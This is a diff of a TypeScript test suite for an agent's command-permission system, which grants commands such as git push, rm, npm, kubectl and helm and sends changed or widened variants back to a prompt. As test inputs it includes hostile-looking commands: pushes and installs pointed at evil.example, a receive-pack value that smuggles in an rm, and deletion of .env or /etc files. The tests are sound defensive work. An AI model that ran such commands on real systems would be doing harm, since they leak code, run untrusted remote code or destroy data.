@@ -1,5 +1,5 @@
 import { execFile } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { promisify } from "node:util";
@@ -113,16 +113,15 @@ function granted(files: Readonly<Record<string, string>>, command: string) {
   return { root, description: decision.grant.description, kind: (line: string) => decided(line).kind };
 }
 
-test("the scripts of a folder are granted together with any arguments, until one of them changes", () => {
-  const { root, description, kind } = granted({ "scripts/a.js": "1", "scripts/b.js": "2" }, "node scripts/a.js --x");
-  expect(description).toContain("`node scripts/*.js` with any arguments");
-  expect([kind("node scripts/b.js y"), kind("node scripts/a.js"), kind("cd scripts && node a.js")]).toEqual([
+test("a script of an interpreter is granted with any arguments, until it changes", () => {
+  const { root, kind } = granted({ "scripts/a.js": "1", "scripts/b.js": "2" }, "node scripts/a.js --x");
+  expect([kind("node scripts/a.js y"), kind("node scripts/b.js"), kind("cd scripts && node a.js")]).toEqual([
     "allow",
-    "allow",
+    "ask",
     "ask",
   ]);
   expect([kind("node -r ./x scripts/a.js"), kind("node scripts/a.js > /etc/x")]).toEqual(["ask", "ask"]);
-  writeFileSync(join(root, "scripts/b.js"), "evil");
+  writeFileSync(join(root, "scripts/a.js"), "evil");
   expect(kind("node scripts/a.js")).toBe("ask");
 });
 
@@ -149,50 +148,18 @@ test("code from the standard input is granted with its text", () => {
   }
 });
 
-test("a push is granted for one address and one kind of branch", () => {
-  const config = (url: string) => `[remote "origin"]\n\turl = ${url}\n`;
-  const files = { ".git/config": config("git@example.com:a/b"), ".git/HEAD": "ref: refs/heads/topic\n" };
-  const { root, description, kind } = granted(files, "git push");
-  expect(description).toBe("`git push` of work branches, not main or releases, to git@example.com:a/b");
-  expect([kind("git push -u origin topic"), kind("git push origin main"), kind("git push --force")]).toEqual([
-    "allow",
-    "ask",
-    "ask",
-  ]);
-  expect([kind("git push --receive-pack='rm x'"), kind("git push origin +topic"), kind("git push other")]).toEqual([
-    "ask",
-    "ask",
-    "ask",
-  ]);
-  writeFileSync(join(root, ".git/config"), config("https://evil.example/x"));
-  expect(kind("git push")).toBe("ask");
-});
-
 const remote = (name: string, url: string) => `[remote "${name}"]\n\turl = ${url}\n`;
 const HEAD = "ref: refs/heads/topic\n";
 
-test("a push of tags, or by settings that push more than this branch, is one of releases", () => {
+test("a push is granted to the letter, for this branch and these settings of the repository", () => {
   const config = remote("origin", "git@example.com:a/b");
   const { root, kind } = granted({ ".git/config": config, ".git/HEAD": HEAD }, "git push");
-  expect([kind("git push --tags"), kind("git push --follow-tags"), kind("git push -u")]).toEqual([
-    "ask",
-    "ask",
-    "allow",
-  ]);
-  writeFileSync(join(root, ".git/config"), `${config}[push]\n\tdefault = upstream\n`);
-  expect([kind("git push"), kind("git push origin topic")]).toEqual(["ask", "allow"]);
-});
-
-test("a push without a remote goes to that of the branch", () => {
-  const config = `${remote("origin", "git@example.com:a/b")}${remote("fork", "git@example.com:me/b")}`;
-  const branch = '[branch "topic"]\n\tremote = fork\n';
-  const { root, description } = granted({ ".git/config": config + branch, ".git/HEAD": HEAD }, "git push");
-  expect(description).toContain("git@example.com:me/b");
-  writeFileSync(join(root, ".git/config"), `${config}[remote]\n\tpushDefault = origin\n${branch}`);
-  expect(
-    granted({ ".git/config": readFileSync(join(root, ".git/config"), "utf8"), ".git/HEAD": HEAD }, "git push")
-      .description,
-  ).toContain("a/b");
+  expect([kind("git push"), kind("git push --tags"), kind("git push origin main")]).toEqual(["allow", "ask", "ask"]);
+  writeFileSync(join(root, ".git/HEAD"), "ref: refs/heads/main\n");
+  expect(kind("git push")).toBe("ask");
+  writeFileSync(join(root, ".git/HEAD"), HEAD);
+  writeFileSync(join(root, ".git/config"), remote("origin", "https://evil.example/x"));
+  expect(kind("git push")).toBe("ask");
 });
 
 test("a push of a submodule or a worktree is not one of the repository around it", () => {
@@ -224,33 +191,22 @@ test.each(["docker container run alpine", "docker create alpine", "docker cp a:/
   },
 );
 
-test("deleting is granted for build folders, or for single files, of the workspace", () => {
-  const builds = granted({ "dist/a.js": "1", "src/a.ts": "2" }, "rm -rf dist");
-  expect([
-    builds.kind("rm -rf node_modules build"),
-    builds.kind("rm -rf src"),
-    builds.kind("rm -rf /srv/dist"),
-  ]).toEqual(["allow", "ask", "ask"]);
-  const files = granted({ "a.txt": "1", "b.txt": "2" }, "rm a.txt");
-  expect([files.kind("rm -f b.txt"), files.kind("rm -rf b"), files.kind("rm .env"), files.kind("rm /etc/x")]).toEqual([
-    "allow",
-    "ask",
-    "ask",
-    "ask",
-  ]);
-  symlinkSync("/home", join(files.root, "link"));
-  expect(files.kind("rm link/x")).toBe("ask");
-});
-
 test("installing what the lockfile names is granted apart from adding packages", () => {
   const { kind } = granted({}, "npm ci");
-  expect([kind("npm ci --ignore-scripts"), kind("npm install"), kind("npm ci --registry=https://x")]).toEqual([
-    "allow",
-    "ask",
-    "ask",
-  ]);
+  expect([kind("npm ci"), kind("npm install"), kind("npm ci --registry=https://x")]).toEqual(["allow", "ask", "ask"]);
   const install = granted({}, "npm install");
   expect([install.kind("npm install"), install.kind("npm install left-pad")]).toEqual(["allow", "ask"]);
+});
+
+test.each([
+  ["helm upgrade web ./c", "helm upgrade other ./c", "helm upgrade web ./c --post-renderer ./evil.sh"],
+  ["kubectl apply -f k8s/", "kubectl apply -f k8s/", "kubectl apply -f https://evil.example/x"],
+  ["npm install -D left-pad", "npm install -D right-pad @types/node", "npm install -D git+https://evil.example/x"],
+  ["gh pr merge 1 --squash", "gh pr merge 2 --squash", "gh pr merge 1 --squash -R other/repo"],
+  ["docker build -t a .", "docker build -t b .", "docker build -t a --output dest=/home/dev ."],
+])("beyond the sandbox a grant names options and places: %s", (command, same, other) => {
+  const { kind } = granted({}, command);
+  expect([kind(command), kind(same), kind(other)]).toEqual(["allow", "allow", "ask"]);
 });
 
 test("code that the agent wrote asks once in a workspace before it runs; what it does not run does not", () => {
